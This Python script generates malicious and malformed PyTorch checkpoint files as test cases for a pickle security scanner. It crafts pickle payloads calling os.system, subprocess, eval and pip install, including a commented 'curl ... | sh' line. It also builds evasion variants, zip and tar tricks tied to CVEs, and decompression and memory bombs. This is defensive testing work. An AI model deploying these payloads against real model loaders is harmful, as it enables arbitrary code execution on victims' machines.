"""Writes checkpoints that are attacks, or malformed. Needs nothing but Python.

make_malicious.py FOLDER CANARY: what runs of them would make a file at CANARY. Prints a JSON list of
{"name", "file", "verdict", "code", "skipping", "says"}: the verdict of a scan, the codes of a conversion and of one that
skips what is unknown, and text that is in what the scan says, or the conversion where the scan finds nothing.
"""

import io
import json
import os
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib

folder, canary = sys.argv[1:3]
COMMAND = f"touch {canary} # curl http://example.com/x | sh"
CODE = f"open({canary!r}, 'w').close()"
cases = []


def add(name, data, verdict="dangerous", code="UNSAFE_PICKLE", says="", ending=".pt", skipping=""):
    # What is unknown and no more is skipped.
    if skipping == "":
        skipping = None if (verdict, code) == ("unknown", "UNSAFE_PICKLE") else code
    path = os.path.join(folder, name + ending)
    with open(path, "wb") as file:
        file.write(data)
    cases.append({"name": name, "file": path, "verdict": verdict, "code": code, "skipping": skipping, "says": says})


# Instructions.
def text(value):
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def number(value):
    return b"J" + struct.pack("<i", value)


def glob(path):
    module, name = path.split(":") if ":" in path else path.rsplit(".", 1)
    return f"c{module}\n{name}\n".encode()


def tuple_of(*items):
    return b"(" + b"".join(items) + b"t"


def value(item):
    if isinstance(item, bytes):
        return item
    if isinstance(item, str):
        return text(item)
    if item is None:
        return b"N"
    if isinstance(item, int):
        return number(item)
    if isinstance(item, (tuple, list)):
        return tuple_of(*map(value, item)) if isinstance(item, tuple) else b"](" + b"".join(map(value, item)) + b"e"
    raise TypeError(item)


def call(function, *args):
    return (function if isinstance(function, bytes) else glob(function)) + tuple_of(*map(value, args)) + b"R"


def stored(key=b"X\x01\x00\x00\x000", elements=4, kind="torch.FloatStorage"):
    return tuple_of(text("storage"), glob(kind), key, text("cpu"), number(elements)) + b"Q"


def tensor(storage=None, offset=b"K\x00", shape=b"K\x04\x85", strides=b"K\x01\x85", more=b""):
    return (
        glob("torch._utils._rebuild_tensor_v2")
        + tuple_of(storage or stored(), offset, shape, strides, b"\x89", call("collections.OrderedDict"), more)
        + b"R"
    )


def state(*extra):
    return b"}(" + text("w") + tensor() + b"".join(extra) + b"u"


def program(body, protocol=2):
    return bytes([0x80, protocol]) + body + b"."


# Containers.
def archive(data, entries=(), method=zipfile.ZIP_STORED, root="archive", version="3\n"):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as file:
        file.writestr(f"{root}/data.pkl", data)
        file.writestr(f"{root}/byteorder", "little")
        file.writestr(f"{root}/data/0", b"\0" * 16)
        for name, content in entries:
            file.writestr(name, content)
        if version is not None:
            file.writestr(f"{root}/version", version)
    return buffer.getvalue()


def checkpoint(body, **options):
    return archive(program(body), **options)


def legacy(body):
    head = [0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}]
    parts = [pickle.dumps(part, 2) for part in head]
    return b"".join(parts) + program(body) + pickle.dumps(["0"], 2) + struct.pack("<q", 4) + b"\0" * 16


EVIL = call("os.system", COMMAND)


def attacks():
    calls = {
        "os-system": ("os.system", COMMAND),
        "posix-system": ("posix.system", COMMAND),
        "nt-system": ("nt.system", COMMAND),
        "os-popen": ("os.popen", COMMAND),
        "os-execv": ("os.execv", "/bin/sh", ["sh", "-c", COMMAND]),
        "subprocess-popen": ("subprocess.Popen", ["sh", "-c", COMMAND]),
        "subprocess-check-output": ("subprocess.check_output", ["sh", "-c", COMMAND]),
        "subprocess-getoutput": ("subprocess.getoutput", COMMAND),
        "commands-getoutput": ("commands.getoutput", COMMAND),
        "pty-spawn": ("pty.spawn", ["sh", "-c", COMMAND]),
        "eval": ("builtins.eval", CODE),
        "eval-python-2": ("__builtin__.eval", CODE),
        "exec": ("builtins.exec", CODE),
        "execfile": ("__builtin__.execfile", canary),
        "compile": ("builtins.compile", CODE, "x", "exec"),
        "import": ("builtins.__import__", "antigravity"),
        "open": ("builtins.open", canary, "w"),
        "breakpoint": ("builtins.breakpoint",),
        "getattr": ("builtins.getattr", glob("os.path"), "join"),
        "timeit": ("timeit.timeit", CODE),
        "cprofile": ("cProfile.run", CODE),
        "profile": ("profile.run", CODE),
        "pdb": ("pdb.run", CODE),
        "bdb": (call("bdb.Bdb") + b"", CODE),
        "trace": ("trace:Trace.run", CODE),
        "doctest": ("doctest.debug_script", CODE),
        "runpy": ("runpy.run_path", canary),
        "code": ("code.InteractiveInterpreter",),
        "imp": ("imp.load_source", "x", canary),
        "import-module": ("importlib.import_module", "antigravity"),
        "marshal": ("types.FunctionType", call("marshal.loads", b"C\x01c"), b"}"),
        "pip-cve-2025-1716": ("pip.main", ["install", "git+https://example.com/x"]),
        "pip-internal": ("pip._internal.cli.main.main", ["install", "x"]),
        "submodule-cve-2025-10157": ("asyncio.unix_events:_UnixSubprocessTransport._start", COMMAND),
        "idlelib": ("idlelib.pyshell:ModifiedInterpreter.runcode", CODE),
        "lib2to3": ("lib2to3.pgen2.grammar:Grammar.loads", b"C\x01x"),
        "collect-env": ("torch.utils.collect_env.run", COMMAND),
        "bottleneck": ("torch.utils.bottleneck.__main__.run_cprofile", CODE),
        "exec-wrapper": ("torch.jit.unsupported_tensor_ops.execWrapper", CODE, b"}", b"}"),
        "guard-builder": ("torch._dynamo.guards:GuardBuilder.get", CODE),
        "config-module": ("torch.utils._config_module:ConfigModule.load_config", b"C\x01x"),
        "torch-load": ("torch.load", canary),
        "torch-hub": ("torch.hub.load", "example/x", "x"),
        "load-from-bytes": ("torch.storage._load_from_bytes", b"B" + struct.pack("<I", 3) + b"abc"),
        "pickle-loads": ("pickle.loads", b"C\x01."),
        "dill-loads": ("dill.loads", b"C\x01."),
        "joblib-load": ("joblib.load", canary),
        "numpy-load": ("numpy.load", canary),
        "numpy-runstring": ("numpy.testing._private.utils.runstring", CODE, b"}"),
        "pandas-eval": ("pandas.eval", CODE),
        "ctypes": ("ctypes.CDLL", canary),
        "socket": ("socket.create_connection", ("example.com", 80)),
        "urlopen": ("urllib.request.urlopen", "http://example.com"),
        "https": ("http.client.HTTPSConnection", "example.com"),
        "requests": ("requests.get", "http://example.com"),
        "webbrowser": ("webbrowser.open", "http://example.com"),
        "rmtree": ("shutil.rmtree", canary),
        "sqlite": ("sqlite3.connect", canary),
        "logging-config": ("logging.config.listen", 9030),
        "distutils": ("distutils.file_util.write_file", canary, [CODE]),
        "multiprocessing": ("multiprocessing.util.spawnv_passfds", b"C\x01x", [], []),
    }
    for name, (function, *args) in calls.items():
        says = "" if isinstance(function, bytes) else function.replace(":", ".")
        add(f"call-{name}", checkpoint(state(text("x"), call(function, *args))), says=says)

    resolved = call(call("pkgutil.resolve_name", "os:system"), COMMAND)
    add("resolve-name", checkpoint(state(text("x"), resolved)), says="pkgutil.resolve_name")
    partial = call(call("functools.partial", glob("os.system"), COMMAND))
    add("partial", checkpoint(state(text("x"), partial)), says="os.system")
    caller = call(call("operator.methodcaller", "system", COMMAND), call("importlib.import_module", "os"))
    add("methodcaller", checkpoint(state(text("x"), caller)), says="operator.methodcaller")
    getter = call(call("operator.attrgetter", "system"), call("builtins.__import__", "os"))
    add("attrgetter", checkpoint(state(text("x"), getter)), says="operator.attrgetter")
    chain = call(call("builtins.getattr", call("builtins.__import__", "os"), "system"), COMMAND)
    add("getattr-chain", checkpoint(state(text("x"), chain)), says="builtins.__import__")


def encodings():
    add("classic-reduce", pickle.dumps(Exploit(), 2), says="system", ending=".bin")
    add("classic-protocol-0", pickle.dumps(Exploit(), 0), says="system", ending=".pkl")
    add("classic-protocol-4", pickle.dumps(Exploit(), 4), says="system", ending=".bin")
    add("legacy", legacy(state(text("x"), EVIL)), says="os.system")
    add("inst", checkpoint(state(text("x"), b"(" + text(COMMAND) + b"ios\nsystem\n")), says="os.system")
    add("obj", checkpoint(state(text("x"), b"(" + glob("os.system") + text(COMMAND) + b"o")), says="os.system")
    add("newobj", checkpoint(state(text("x"), glob("os.system") + tuple_of(text(COMMAND)) + b"\x81")), says="os.system")
    newobj = glob("os.system") + tuple_of(text(COMMAND)) + b"}" + b"\x92"
    add("newobj-ex", archive(program(state(text("x"), newobj), 4)), says="os.system")
    stack = b"\x8c\x02os\x8c\x06system\x93" + tuple_of(text(COMMAND)) + b"R"
    add("stack-global", archive(program(state(text("x"), stack), 4)), says="os.system")
    memo = b"\x8c\x06system\x940\x8c\x02os\x940h\x01h\x00\x93" + tuple_of(text(COMMAND)) + b"R"
    add("stack-global-from-memo", archive(program(memo + b"0" + state(), 4)), says="os.system")
    add("popped", checkpoint(EVIL + b"0" + state()), says="os.system")
    add("popped-mark", checkpoint(b"(" + EVIL + b"1" + state()), says="os.system")
    add("a-key", checkpoint(b"}(" + EVIL + tensor() + text("w") + tensor() + b"u"), says="os.system")
    add("the-root", checkpoint(EVIL), says="os.system")
    add("in-metadata", checkpoint(b"}(" + text("w") + tensor(more=EVIL) + b"u"), says="os.system")
    add("in-storage", checkpoint(b"}(" + text("w") + tensor(stored(key=EVIL)) + b"u"), says="os.system")
    harmless = b"".join(call(f"foo.f{i}") + b"0" for i in range(1200))
    add("behind-harmless-names", checkpoint(harmless + state(text("x"), EVIL)), says="os.system")
    dropped = state(text("__metadata__"), tensor(), text("x"), call("argparse.Namespace"))
    add("name-of-metadata", checkpoint(dropped), "unknown", says="argparse.Namespace", skipping="UNSUPPORTED_TENSOR")
    add("broken-stream", program(EVIL)[:-1] + b"\xff\xff", says="os.system", ending=".bin")
    add("broken-zip-stream", archive(program(EVIL)[:-1] + b"}}}"), says="os.system")
    add("cut-stream", program(EVIL)[:-1], says="os.system", ending=".bin")
    add("second-pickle", program(b"}") + program(EVIL), "unknown", "MALFORMED_CHECKPOINT", ending=".bin")
    build = glob("collections.OrderedDict") + b"}" + text("__reduce__") + glob("os.system") + b"sb"
    add("build-class", checkpoint(build + b"0" + state()), says="os.system")
    add("build-listed-class", checkpoint(glob("collections.OrderedDict") + b"}b0" + state()), says="BUILD")
    setstate = call("__main__.Model") + b"}" + text("__setstate__") + glob("os.system") + b"sb"
    add("setstate", checkpoint(state(text("x"), setstate)), says="os.system")
    add("listed-name-with-dots", checkpoint(state(text("x"), call("torch:Size.__init__.__globals__"))), says="__globals__")
    add("unlisted-torch", checkpoint(state(text("x"), call("torch._utils.something"))), "unknown", says="torch._utils.something")
    add("unknown-class", checkpoint(state(text("x"), call("argparse.Namespace"))), "unknown", says="argparse.Namespace")
    add("main-class", checkpoint(state(text("x"), call("__main__.Model"))), "unknown", says="__main__.Model")
    add("named-only", checkpoint(state(text("x"), glob("os.system"))), says="os.system")
    add("extension", checkpoint(state(text("x"), b"\x82\x01")), "unknown", "MALFORMED_CHECKPOINT")
    add("out-of-band", archive(program(state(text("x"), b"\x97"), 5)), "unknown", "MALFORMED_CHECKPOINT")
    add("persistent-module", checkpoint(tuple_of(text("module"), glob("os.system"), text("a"), text("b")) + b"Q"))
    add("escapes", checkpoint(state(text("x"), call("os.system", "\x1b[2J\u202eevil"))), says="\\u001b[2J\\u202eevil")


class Exploit:
    def __reduce__(self):
        return os.system, (COMMAND,)


def local_headers(data):
    at = -1
    while (at := data.find(b"PK\x03\x04", at + 1)) >= 0:
        yield at


def central_headers(data):
    at = -1
    while (at := data.find(b"PK\x01\x02", at + 1)) >= 0:
        yield at


def patched(data, at, raw):
    return data[:at] + raw + data[at + len(raw) :]


def zips():
    evil = checkpoint(state(text("x"), EVIL))
    good = checkpoint(state())
    bad = {"verdict": "unknown", "code": "MALFORMED_CHECKPOINT"}
    broken = {"code": "MALFORMED_CHECKPOINT", "says": "os.system"}
    add("zip-other-extension-cve-2025-1889", checkpoint(state(), entries=[("archive/config.p", program(EVIL))]), code=None, says="os.system")
    add("zip-raw-pickle-as-bin-cve-2025-10155", pickle.dumps(Exploit(), 2), says="system", ending=".bin")
    first = next(local_headers(evil))
    add("zip-names-differ-cve-2025-1944", patched(evil, first + 30, b"Archive/data.pkl"), **broken)
    for bits, name in ((1, "encrypted"), (0x20, "patched"), (0x40, "strong"), (0x2000, "masked")):
        flags = struct.pack("<H", bits)
        add(f"zip-{name}-flag-cve-2025-1945", patched(patched(evil, first + 6, flags), next(central_headers(evil)) + 8, flags), **broken)
    add("zip-local-flag", patched(evil, first + 6, b"\x01\x00"), **broken)
    crc = patched(patched(evil, first + 14, b"\1\2\3\4"), next(central_headers(evil)) + 16, b"\1\2\3\4")
    add("zip-crc-cve-2025-10156", crc, says="os.system")
    add("zip-crc-good", patched(patched(good, next(local_headers(good)) + 14, b"\1\2\3\4"), next(central_headers(good)) + 16, b"\1\2\3\4"), **bad)
    add("zip-compressed", checkpoint(state(text("x"), EVIL), method=zipfile.ZIP_DEFLATED), **broken)
    add("zip-torchscript-cve-2025-32434", checkpoint(state(), entries=[("archive/constants.pkl", program(EVIL)), ("archive/code/__torch__.py", "x")]), says="os.system")
    add("zip-torchscript", checkpoint(state(), entries=[("archive/constants.pkl", program(b")")), ("archive/code/__torch__.py", "x")]), "unknown", says="TorchScript", skipping="UNSAFE_PICKLE")
    add("zip-behind-something", b"#!/bin/sh\n" + good, "unknown", "NOT_A_CHECKPOINT")
    add("zip-pickle-before", program(EVIL) + good, "dangerous", says="os.system")
    add("zip-bytes-behind", good + b"\0", **bad)
    add("zip-comment", good[:-2] + b"\x01\x00x", **bad)
    add("zip-two-ends", good + good[good.rfind(b"PK\x05\x06") :], **bad)
    add("zip-two-directories", good[: good.find(b"PK\x01\x02")] + good[good.find(b"PK\x01\x02") : good.find(b"PK\x05\x06")] * 2 + good[good.find(b"PK\x05\x06") :], **bad)
    add("zip-fewer-records", patched(good, len(good) - 14, struct.pack("<HH", 1, 1)), **bad)
    add("zip-many-records", patched(good, len(good) - 14, struct.pack("<HH", 65535, 65535)), **bad)
    add("zip-no-directory", good[: good.find(b"PK\x01\x02")], **bad)
    add("zip-local-size", patched(good, next(local_headers(good)) + 18, struct.pack("<II", 5, 5)), **bad)
    offset = next(central_headers(good)) + 42
    add("zip-offset-outside", patched(good, offset, b"\xf0\xff\xff\x7f"), **bad)
    add("zip-offset-overlap", patched(good, list(central_headers(good))[1] + 42, b"\0\0\0\0"), **bad)
    add("zip-zip64-size", patched(good, next(central_headers(good)) + 20, b"\xff" * 8), **bad)
    add("zip-two-folders", checkpoint(state(), entries=[("other/data.pkl", program(EVIL))]), code="NOT_A_CHECKPOINT", says="os.system")
    add("zip-outside-folder", checkpoint(state(), entries=[("../x", b"x")]), **bad)
    add("zip-backslash", checkpoint(state(), entries=[("archive\\x", b"x")]), **bad)
    for name, version in (("none", None), ("later", "999"), ("first", "0"), ("text", "three"), ("empty", "")):
        said = {"verdict": "unknown", "code": "MALFORMED_CHECKPOINT", "says": "version"}
        add(f"zip-version-{name}", checkpoint(state(), version=version), **said)
    other = checkpoint(state(), entries=[("archive/.data/version", "999")])
    add("zip-version-other", other, "unknown", "MALFORMED_CHECKPOINT", says="version")
    add("zip-other-record", checkpoint(state(), entries=[("archive/visions", "3\n")]), "safe", None)
    twice = checkpoint(state(), entries=[("archive/xata.pkl", program(EVIL))]).replace(b"xata.pkl", b"data.pkl")
    add("zip-name-twice", twice, **broken)
    case = {"code": "MALFORMED_CHECKPOINT", "says": "case"}
    add("zip-case-pickle", checkpoint(state(), entries=[("archive/DATA.PKL", program(EVIL))]), "dangerous", **case)
    add("zip-case-storage", checkpoint(state(), entries=[("archive/DATA/0", b"x" * 16)]), "unknown", **case)
    add("zip-case-byteorder", good.replace(b"archive/version", b"archive/Version"), "unknown", **case)
    add("zip-byteorder", good.replace(b"little", b"middle"), **bad)
    bomb = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b"".join(bomb.compress(b"N" * 2**20) for _ in range(300)) + bomb.flush()
    header = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, 0, len(packed), 300 * 2**20, 16, 0)
    add("zip-bomb", header + b"archive/data.pkl" + packed, **bad)


def tars():
    broken = {"verdict": "unknown", "code": "MALFORMED_CHECKPOINT"}
    one = pickle.dumps(1, 2)
    parts = {
        "storages": one + program(tuple_of(number(7), text("cpu"), glob("torch.FloatStorage"))) + struct.pack("<q", 4) + b"\0" * 16 + program(b"]"),
        "tensors": one + program(tuple_of(number(8), number(7), b"N")) + struct.pack("<iiqqq", 1, 0, 4, 1, 0),
        "pickle": program(b"}(" + text("w") + b"P8\nu"),
    }

    def packed(changes=(), **options):
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w:", format=tarfile.USTAR_FORMAT) as archive:
            for name, data in {**parts, **dict(changes)}.items():
                member = tarfile.TarInfo(name)
                member.size = len(data)
                for key, item in options.items():
                    setattr(member, key, item)
                archive.addfile(member, io.BytesIO(data))
        return buffer.getvalue()

    def renamed(data, name):
        header = bytearray(data[:512])
        header[:100] = name.encode().ljust(100, b"\0")[:100]
        header[148:156] = b" " * 8
        header[148:156] = b"%06o\0 " % sum(header)
        return bytes(header) + data[512:]

    add("tar", packed(), "safe", None)
    add("tar-pickle", packed({"pickle": program(EVIL)}), says="os.system")
    add("tar-storages", packed({"storages": program(EVIL)}), says="os.system")
    add("tar-tensors", packed({"tensors": program(EVIL)}), says="os.system")
    add("tar-count", packed({"tensors": pickle.dumps(2**40, 2)}), **broken)
    add("tar-dimensions", packed({"tensors": one + program(tuple_of(number(8), number(7), b"N")) + struct.pack("<ii", 2**31 - 1, 0)}), **broken)
    add("tar-elements", packed({"storages": parts["storages"].replace(struct.pack("<q", 4), struct.pack("<q", 2**60))}), **broken)
    add("tar-outside", packed({"tensors": parts["tensors"][:-8] + struct.pack("<q", 1)}), "safe", "MALFORMED_CHECKPOINT")
    add("tar-unknown-key", packed({"pickle": program(b"P9\n")}), **broken)
    add("tar-link", packed(type=tarfile.SYMTYPE, linkname="/etc/passwd"), **broken)
    add("tar-bytes-behind", packed() + b"x", **broken)
    add("tar-other-record", packed({"other": b""}), **broken)
    payload = f"cos\nsystem\n(S'touch {canary}'\ntR."
    add("tar-and-pickle", renamed(packed(), payload), says="os.system")
    add("tar-checksum", patched(packed(), 0, b"S"), **broken)


def tensors():
    wrong = {"verdict": "safe", "code": "MALFORMED_CHECKPOINT"}
    broken = {"verdict": "unknown", "code": "MALFORMED_CHECKPOINT"}
    one = lambda code: checkpoint(b"}(" + text("w") + code + b"u")
    size = lambda *sizes: tuple_of(*(b"\x8a\x08" + struct.pack("<q", item) for item in sizes))
    add("tensor-storage-size-cve-2026-24747", one(tensor(stored(elements=400))), **wrong)
    add("tensor-setitem-cve-2026-24747", checkpoint(tensor() + text("a") + text("b") + b"s"), **broken)
    add("tensor-setitems-on-list", checkpoint(b"](" + text("a") + text("b") + b"u"), **broken)
    add("tensor-append-to-dict", checkpoint(b"}" + text("a") + b"a"), **broken)
    add("tensor-build", checkpoint(state(text("x"), number(1) + b"}b")), "unknown", says="BUILD")
    add("tensor-outside", one(tensor(offset=b"K\x01")), **wrong)
    add("tensor-overflow", one(tensor(shape=size(2**62, 4), strides=size(1, 1))), **broken)
    add("tensor-overflow-exact", one(tensor(shape=size(2**52, 4), strides=size(0, 0))), **wrong)
    add("tensor-stride-overflow", one(tensor(shape=size(2, 2), strides=size(2**62, 2**62))), **broken)
    add("tensor-negative-size", one(tensor(shape=size(-4), strides=size(1))), **broken)
    add("tensor-negative-stride", one(tensor(shape=size(4), strides=size(-1))), **broken)
    add("tensor-negative-offset", one(tensor(offset=number(-1))), **broken)
    add("tensor-float-size", one(tensor(shape=b"G" + struct.pack(">d", 4) + b"\x85")), **broken)
    add("tensor-many-dimensions", one(tensor(shape=size(*[1] * 100), strides=size(*[1] * 100))), **broken)
    add("tensor-no-storage", one(tensor(number(1))), **broken)
    add("tensor-expanded-bomb", one(tensor(shape=size(2**40), strides=size(0))), "safe", "CHECKPOINT_LIMIT")
    many = b"".join(text(f"w{i}") + tensor(shape=size(2**24, i + 1), strides=size(0, 0)) for i in range(50))
    add("tensor-views-bomb", checkpoint(state(many)), "safe", "CHECKPOINT_LIMIT")
    add("tensor-unknown-storage", one(tensor(stored(kind="torch.EvilStorage"))), **broken)
    add("tensor-names-twice", checkpoint(b"}(" + (text("w") + tensor()) * 2 + b"u"), **wrong)
    add("tensor-name-clash", checkpoint(b"}(" + text("a.b") + tensor() + text("a") + b"}" + text("b") + tensor() + b"su"), **wrong)


def bombs():
    limit = {"verdict": "unknown", "code": "CHECKPOINT_LIMIT"}
    broken = {"verdict": "unknown", "code": "MALFORMED_CHECKPOINT"}
    add("bomb-long", program(b"\x8b" + struct.pack("<I", 2**31 - 1)), **limit)
    add("bomb-long-negative", program(b"\x8b\xff\xff\xff\xff"), **limit)
    add("bomb-decimal", b"\x80\x02L" + b"9" * 60000 + b"L\n.", **limit)
    add("bomb-text", program(b"\x8d" + struct.pack("<Q", 2**60)), **broken)
    add("bomb-text-4", program(b"X" + struct.pack("<I", 2**32 - 1)), **broken)
    add("bomb-bytes", program(b"\x8e" + struct.pack("<Q", 2**62)), **broken)
    add("bomb-frame", program(b"\x95" + struct.pack("<Q", 2**62)), **broken)
    add("bomb-line", b"c" + b"x" * 2**20, **limit)
    add("bomb-memo-index", program(b"Nr\xff\xff\xff\xff0" + b"j\xfe\xff\xff\xff"), **broken)
    add("bomb-dup", program(b"N" + b"2" * 5_000_000), **limit)
    add("bomb-marks", program(b"(" * 5_000_000), **limit)
    add("bomb-lists", program(b"]" * 6_000_000), **limit)
    add("bomb-tuples", program(b")" + b"\x85" * 1_000_000), "safe", "CHECKPOINT_LIMIT")
    add("bomb-memo", program(b"]" + b"\x94" * 6_000_000), **limit)
    body = b"](" + b"N" * 10 + b"eq\x00"
    for i in range(1, 60):
        body += b"0](" + b"h" + bytes([i - 1]) + (b"h" + bytes([i - 1])) * 9 + b"eq" + bytes([i])
    add("bomb-laughs", checkpoint(b"}" + text("x") + body + b"s"), "safe", "CHECKPOINT_LIMIT")
    add("bomb-cycle", checkpoint(b"}" + text("x") + b"]q\x00(]h\x00aes"), "safe", "CHECKPOINT_LIMIT")
    deep = b"}" + (text("a") + b"}") * 100 + text("w") + tensor() + b"s" * 101
    add("bomb-deep", checkpoint(deep), "safe", "CHECKPOINT_LIMIT")
    copies = b"](" + b"N" * 1_000_000 + b"eq\x000"
    copies += (glob("builtins.set") + b"h\x00\x85R0") * 100
    add("bomb-copies", program(copies + b"N"), **limit)
    huge = b"X" + struct.pack("<I", 2**24) + b"a" * 2**24 + b"q\x000"
    huge += (glob("_codecs.encode") + b"h\x00" + text("latin1") + b"\x86R0") * 1000
    add("bomb-encode", program(huge + b"N"), **limit)
    name = b"X" + struct.pack("<I", 5000) + b"n" * 5000
    add("bomb-name", checkpoint(b"}" + name + tensor() + b"s"), "safe", "CHECKPOINT_LIMIT")
    for what, raw in {
        "empty-stack": b"0",
        "no-mark": b"t",
        "no-stop": b"N" * 10,
        "left-over": b"NN.",
        "memo-empty": b"h\x05",
        "opcode": b"\xff",
        "protocol": b"\x80\x09",
        "utf-8": b"X\x02\x00\x00\x00\xc3\x28",
        "surrogate": b"X\x03\x00\x00\x00\xed\xa0\x80",
        "odd-items": b"}(Nu",
        "frame-in-frame": b"\x95" + struct.pack("<Q", 20) + b"\x95" + struct.pack("<Q", 2) + b"N" * 30,
        "across-frame": b"\x95" + struct.pack("<Q", 3) + b"X\x05\x00\x00\x00abcdeNNNN",
        "name-no-text": b"NN\x93",
    }.items():
        add(f"malformed-{what}", b"\x80\x04" + raw + (b"" if what == "no-stop" else b"."), **broken)


# What is said of those that name nothing.
SAYS = {
    "bdb.Bdb": "call-bdb",
    "bytes behind the pickle": "second-pickle",
    "opcode 0x82": "extension",
    "opcode 0x97": "out-of-band",
    "os.system": "persistent-module",
    "a pickle with another checksum": "zip-crc-good",
    "neither a zip file, nor a pickle": "zip-behind-something",
    "a zip file without its end record, or with bytes behind it": "zip-bytes-behind zip-comment zip-no-directory",
    "a zip directory that does not end at byte 613": "zip-two-ends",
    "a zip directory that does not end at byte 837": "zip-two-directories",
    "a zip directory of more than its records": "zip-fewer-records",
    "record 4 of the zip directory: it is not there": "zip-many-records",
    "its two headers do not agree": "zip-local-size",
    "bytes of no record": "zip-offset-outside",
    "no header before its data": "zip-offset-overlap",
    "record 0 of the zip directory: sizes that do not agree": "zip-zip64-size",
    "records in more than one folder": "zip-outside-folder",
    "record 3 of the zip directory: a name that is not right": "zip-backslash",
    "a byte order that is neither little nor big": "zip-byteorder",
    "its records have more than may be looked at": "zip-bomb",
    "1 bytes are expected, but the pickle ends": "tar-count malformed-no-stop",
    "a tensor of 2147483647 dimensions": "tar-dimensions",
    "a number that is no index": "tar-elements",
    "it reaches to byte 20 of a storage of 16": "tar-outside tensor-outside",
    "a persistent id that is not in the file": "tar-unknown-key",
    "what is no regular file": "tar-link",
    "bytes behind its end": "tar-bytes-behind",
    "a record of another name": "tar-other-record",
    "a header that is not right": "tar-checksum",
    "storage \"0\": expected 1600 bytes, found 16": "tensor-storage-size-cve-2026-24747",
    "items for what cannot have them": (
        "tensor-setitem-cve-2026-24747 tensor-setitems-on-list "
        "tensor-append-to-dict malformed-odd-items"
    ),
    "a tensor whose shape has a value that is no index": "tensor-overflow tensor-negative-size tensor-float-size",
    "a shape beyond all bounds": "tensor-overflow-exact",
    "a tensor whose strides has a value that is no index": "tensor-stride-overflow tensor-negative-stride",
    "a tensor whose offset is no index": "tensor-negative-offset",
    "a tensor of 100 dimensions": "tensor-many-dimensions",
    "a tensor without a storage": "tensor-no-storage",
    "its tensors have 4398046511088 bytes more than what they are views of": "tensor-expanded-bomb",
    "its tensors have 85563801600 bytes more than what they are views of": "tensor-views-bomb",
    "a persistent id that is no storage of tensors": "tensor-unknown-storage",
    "a dict with the key \"w\" twice": "tensor-names-twice",
    "two tensors of the name \"a.b\"": "tensor-name-clash",
    "an integer of 2147483647 bytes": "bomb-long",
    "an integer of 4294967295 bytes": "bomb-long-negative",
    "an integer of 60000 digits": "bomb-decimal",
    "a length of 1152921504606846976 bytes": "bomb-text",
    "4294967295 bytes are expected, but the pickle ends": "bomb-text-4",
    "a length of 4611686018427387904 bytes": "bomb-bytes bomb-frame",
    "a line of over 65536 bytes": "bomb-line",
    "entry 4294967294 of the memo is empty": "bomb-memo-index",
    "a stack too deep": "bomb-dup bomb-marks",
    "more work than any checkpoint takes": "bomb-lists bomb-memo bomb-copies bomb-encode",
    "more, or more deeply nested, than any checkpoint is": "bomb-tuples bomb-laughs bomb-cycle bomb-deep",
    "a name that is too long": "bomb-name",
    "a value is expected on the stack, and there is none": "malformed-empty-stack",
    "a mark is expected, and there is none": "malformed-no-mark",
    "values are left on the stack": "malformed-left-over",
    "entry 5 of the memo is empty": "malformed-memo-empty",
    "opcode 0xff": "malformed-opcode",
    "protocol 9": "malformed-protocol",
    "text that is not UTF-8": "malformed-utf-8 malformed-surrogate",
    "a frame within a frame": "malformed-frame-in-frame",
    "an argument that reaches past the end of its frame": "malformed-across-frame",
    "a name to import that is no text": "malformed-name-no-text",
}

for make in (attacks, encodings, zips, tars, tensors, bombs):
    make()
by_name = {name: says for says, names in SAYS.items() for name in names.split()}
for case in cases:
    if case["says"] == "" and case["code"] is not None:
        case["says"] = by_name.pop(case["name"])
assert not by_name, by_name
print(json.dumps(cases))
